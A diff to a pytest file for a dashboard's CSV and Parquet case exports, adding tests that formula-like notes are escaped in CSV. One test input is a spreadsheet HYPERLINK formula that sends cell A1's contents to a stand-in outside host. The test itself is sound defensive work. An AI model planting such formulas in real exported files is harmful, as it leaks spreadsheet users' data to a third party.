@@ -2,6 +2,7 @@
 
 import csv
 import io
+import re
 
 import database
 import pyarrow.parquet
@@ -10,22 +11,21 @@ import pytest
 import db.engine
 import db.migrate
 import db.read
+from dashapp import exports
 from dashapp.app import create_app
 from dashapp.pages import cases_saved
 from db import annotations
 
 
 @pytest.fixture(scope="module")
-def engine(tmp_path_factory):
-    engine = db.engine.create(tmp_path_factory.mktemp("exports") / "cases.db")
-    db.migrate.upgrade(engine)
+def engine(fresh):
+    engine = fresh()
     database.fill(engine, per_group=4, references=60)
     with db.engine.writing(engine) as connection:
         annotations.add_tag(connection, 9, "sky")
         annotations.add_tag(connection, 9, "odd")
         annotations.set_note(connection, 9, 'two lines,\n"quoted"')
-    yield engine
-    engine.dispose()
+    return engine
 
 
 @pytest.fixture(scope="module")
@@ -61,6 +61,22 @@ def test_both_forms_have_the_same_rows_and_what_people_wrote(client):
     assert first["verdict"] is None
 
 
+@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝"])
+def test_a_note_that_is_a_formula_is_none_in_the_csv_and_itself_in_parquet(engine, client, sign):
+    formula = sign + 'HYPERLINK("http://elsewhere/?"&A1)'
+    with db.engine.writing(engine) as connection:
+        annotations.set_note(connection, 10, formula)
+    (row,) = csv.DictReader(io.StringIO(client.get("/pixels/export/cases.csv?find=10").text))
+    assert row["note"] == "'" + formula
+    parquet = client.get("/pixels/export/cases.parquet?find=10").data
+    assert pyarrow.parquet.read_table(io.BytesIO(parquet))["note"].to_pylist() == [formula]
+
+
+def test_numbers_and_what_begins_otherwise_stay_as_they_are_in_the_csv():
+    rows = [(-1.5, -2, None, True, "a-b", "'=quoted", "")]
+    assert list(exports.as_csv(iter([rows])))[1] == "-1.5,-2,,True,a-b,'=quoted,\r\n"
+
+
 def test_a_list_without_cases_is_a_file_without_rows(client):
     assert len(list(csv.reader(io.StringIO(client.get("/pixels/export/cases.csv?find=9999").text)))) == 1
     empty = client.get("/pixels/export/cases.parquet?find=9999").data
@@ -80,9 +96,9 @@ def test_a_view_is_saved_or_the_reason_why_not_is_said(engine):
     assert "None yet" in str(cases_saved.views(app, engine))
     assert "mine" in str(cases_saved.changed(app, engine, engine, "mine", "?kind=clean", None))
     assert "expected 1 to 60" in str(cases_saved.changed(app, engine, engine, "", "", None))
-    reading = db.engine.create(db.engine.file(engine), read_only=True)
+    reading = db.engine.create(db.migrate.name(engine), read_only=True)
     refused = str(cases_saved.changed(app, reading, reading, "other", "", None))
-    assert "Nothing was changed: attempt to write a readonly database" in refused
+    assert re.search("Nothing was changed: .* read-?only", refused)
     assert "mine" in refused
     assert cases_saved.READ_ONLY in str(cases_saved.saved(app, reading, writable=False))
     reading.dispose()
